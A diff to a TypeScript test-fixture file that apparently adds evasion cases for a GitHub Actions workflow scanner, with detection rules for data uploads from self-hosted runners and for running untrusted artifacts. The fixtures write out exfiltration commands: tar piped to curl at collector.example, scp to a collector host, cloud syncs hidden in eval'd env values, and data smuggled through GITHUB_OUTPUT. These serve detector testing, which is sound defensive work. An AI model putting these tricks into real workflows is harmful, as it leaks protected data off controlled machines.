@@ -295,5 +295,78 @@ export function unseenCases(): UnseenCase[] {
       'workflow/self-hosted-upload',
       'GITHUB_STEP_SUMMARY',
     ),
+    one(
+      'defaults-shell-template',
+      '`defaults.run.shell` is a template every `run:` goes through: the upload hides in it',
+      `${SCHEDULE}defaults:\n  run:\n    shell: 'bash -c "tar c $DATA_ROOT | curl -T - https://collector.example; bash {0}"'\njobs:\n  export:\n    if: ${RECOMMENDED}\n    runs-on: [self-hosted, linux]\n    steps:\n      - run: make export\n`,
+      'workflow/self-hosted-upload',
+      "shell: 'bash -c",
+    ),
+    one(
+      'step-shell-template',
+      "a step's custom `shell:` runs its own command before the script",
+      dataJob(
+        `      - shell: 'sh -c "scp -r $DATA_ROOT u@collector.example: ; sh {0}"'\n        run: make export\n`,
+      ),
+      'workflow/self-hosted-upload',
+      "shell: 'sh -c",
+    ),
+    one(
+      'step-env-eval',
+      'the upload sits in an env value the script `eval`s',
+      dataJob(
+        '      - env:\n          SYNC: rclone copy $DATA_ROOT remote:bucket\n        run: eval "$SYNC"\n',
+      ),
+      'workflow/self-hosted-upload',
+      'SYNC: rclone',
+    ),
+    one(
+      'job-env-eval',
+      'the same in the job env',
+      `${SCHEDULE}jobs:\n  export:\n    if: ${RECOMMENDED}\n    runs-on: [self-hosted, linux]\n    env:\n      SYNC: aws s3 sync $DATA_ROOT s3://bucket\n    steps:\n      - run: eval "$SYNC"\n`,
+      'workflow/self-hosted-upload',
+      'SYNC: aws s3',
+    ),
+    one(
+      'gh-run-download',
+      "the latest run's artifact may come from a fork's pull request; it runs next to the data",
+      dataJob('      - run: gh run download --name model -D model && python model/run.py\n'),
+      'workflow/untrusted-checkout',
+      'gh run download',
+    ),
+    one(
+      'download-artifact-other-run',
+      'actions/download-artifact with run-id fetches another run',
+      dataJob(
+        '      - uses: actions/download-artifact@v4\n        with:\n          name: model\n          run-id: ${{ vars.LAST_RUN }}\n          github-token: ${{ github.token }}\n      - run: python model/run.py\n',
+      ),
+      'workflow/untrusted-checkout',
+      'actions/download-artifact',
+    ),
+    one(
+      'third-party-artifact-download',
+      'a pinned third-party action that downloads the artifact of the last ci.yml run',
+      dataJob(
+        `      - uses: dawidd6/action-download-artifact@${'0'.repeat(40)}\n        with:\n          workflow: ci.yml\n      - run: python model/run.py\n`,
+      ),
+      'workflow/untrusted-checkout',
+      'dawidd6',
+    ),
+    one(
+      'github-output-base64',
+      'step outputs are sent to GitHub and handed to later (hosted) jobs',
+      dataJob('      - id: d\n        run: echo "d=$(base64 -w0 $DATA_ROOT/p.dcm)" >> "$GITHUB_OUTPUT"\n'),
+      'workflow/self-hosted-upload',
+      'GITHUB_OUTPUT',
+    ),
+    one(
+      'artifact-bind-mount',
+      'the uploaded folder is the data folder, bind-mounted',
+      dataJob(
+        '      - run: mkdir report && sudo mount --bind "$DATA_ROOT" report\n      - uses: actions/upload-artifact@v4\n        with:\n          path: report\n',
+      ),
+      'workflow/self-hosted-upload',
+      'upload-artifact',
+    ),
   ];
 }
